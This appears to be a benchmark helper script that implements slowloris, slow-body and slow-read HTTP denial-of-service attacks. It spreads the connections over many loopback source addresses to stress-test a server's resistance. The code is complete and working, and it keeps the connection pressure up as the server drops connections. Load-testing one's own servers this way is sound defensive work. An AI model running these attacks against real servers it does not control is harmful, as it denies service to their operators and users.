#!/usr/bin/env python3
"""bench/slowclients.py — slow HTTP clients for bench/slow.sh (slowhttptest's three attacks, with the
one thing slowhttptest cannot do: connections spread over many source addresses, 127.0.0.2 and up).

Usage: slowclients.py MODE HOST PORT [--conns N] [--duration S] [--sources FIRST-LAST] [--path P]
                      [--interval S] [--body N] [--rate-per-s R]

  slowloris  a request head that never ends: a first line and Host, then one more header line every
             --interval seconds (slowhttptest -H)
  slowbody   a POST head announcing --body bytes, then one byte of body every --interval seconds
             (slowhttptest -B), to a script that reads its body
  slowread   GET --path with a tiny receive window (SO_RCVBUF 4 KiB), reading 32 bytes every
             --interval seconds (slowhttptest -X)

It keeps --conns connections open for --duration seconds, opening them at --rate-per-s a second (as
slowhttptest -r) and replacing any the server closes, so the pressure does not fade as the server cuts
them. Each connection is bound to the next address of --sources (127.0.0.2-127.0.0.250 by default).
At the end it prints one line of counts: opened, refused or closed by the server, still open.
"""

import argparse
import errno
import selectors
import socket
import sys
import time


def parse():
    ap = argparse.ArgumentParser()
    ap.add_argument("mode", choices=["slowloris", "slowbody", "slowread"])
    ap.add_argument("host")
    ap.add_argument("port", type=int)
    ap.add_argument("--conns", type=int, default=1000)
    ap.add_argument("--duration", type=float, default=30)
    ap.add_argument("--sources", default="127.0.0.2-127.0.0.250")
    ap.add_argument("--path", default="/")
    ap.add_argument("--interval", type=float, default=10)
    ap.add_argument("--body", type=int, default=8192)
    ap.add_argument("--rate-per-s", type=float, default=500)
    return ap.parse_args()


def sources(spec):
    first, last = spec.split("-")
    a, b = first.split("."), last.split(".")
    prefix = ".".join(a[:3])
    return [f"{prefix}.{i}" for i in range(int(a[3]), int(b[3]) + 1)]


class Conn:
    __slots__ = ("sock", "due", "sent_head")

    def __init__(self, sock, due):
        self.sock, self.due, self.sent_head = sock, due, False


def main():
    args = parse()
    addrs = sources(args.sources)
    host = args.host
    if args.mode == "slowloris":
        head = f"GET {args.path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: slowclients\r\n".encode()
    elif args.mode == "slowbody":
        head = (
            f"POST {args.path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: slowclients\r\n"
            f"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {args.body}\r\n\r\n"
        ).encode()
    else:
        head = f"GET {args.path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: slowclients\r\n\r\n".encode()
    sel = selectors.DefaultSelector()
    conns = {}
    opened = closed = failed = 0
    next_src = 0
    start = time.monotonic()
    end = start + args.duration
    open_budget = 0.0
    last = start

    def open_one(now):
        nonlocal opened, failed, next_src
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if args.mode == "slowread":
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        try:
            s.bind((addrs[next_src % len(addrs)], 0))
        except OSError:
            failed += 1
            s.close()
            return
        next_src += 1
        s.setblocking(False)
        err = s.connect_ex((host, args.port))
        if err not in (0, errno.EINPROGRESS):
            failed += 1
            s.close()
            return
        c = Conn(s, now)
        conns[s.fileno()] = c
        sel.register(s, selectors.EVENT_READ | selectors.EVENT_WRITE, c)
        opened += 1

    def drop(c):
        nonlocal closed
        try:
            sel.unregister(c.sock)
        except (KeyError, ValueError):
            pass
        conns.pop(c.sock.fileno(), None)
        c.sock.close()
        closed += 1

    while True:
        now = time.monotonic()
        if now >= end:
            break
        open_budget = min(open_budget + (now - last) * args.rate_per_s, args.conns)
        last = now
        while len(conns) < args.conns and open_budget >= 1:
            open_one(now)
            open_budget -= 1
        for key, events in sel.select(timeout=0.05):
            c = key.data
            if events & selectors.EVENT_WRITE and not c.sent_head:
                try:
                    c.sock.send(head)
                    c.sent_head = True
                    c.due = now + args.interval
                    sel.modify(c.sock, selectors.EVENT_READ, c)
                except OSError:
                    drop(c)
                continue
            if events & selectors.EVENT_READ:
                if args.mode == "slowread":
                    continue  # read on our own schedule, below
                try:
                    data = c.sock.recv(65536)
                except OSError:
                    data = b""
                if not data:
                    drop(c)  # the server gave up on us: replaced next turn
        for c in list(conns.values()):
            if not c.sent_head or c.due > now:
                continue
            c.due = now + args.interval
            try:
                if args.mode == "slowloris":
                    c.sock.send(b"X-a: b\r\n")
                elif args.mode == "slowbody":
                    c.sock.send(b"a")
                else:
                    data = c.sock.recv(32)
                    if not data:
                        drop(c)
            except BlockingIOError:
                pass
            except OSError:
                drop(c)
    print(f"slowclients {args.mode}: opened {opened}, closed by the server {closed}, "
          f"failed {failed}, open at the end {len(conns)}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
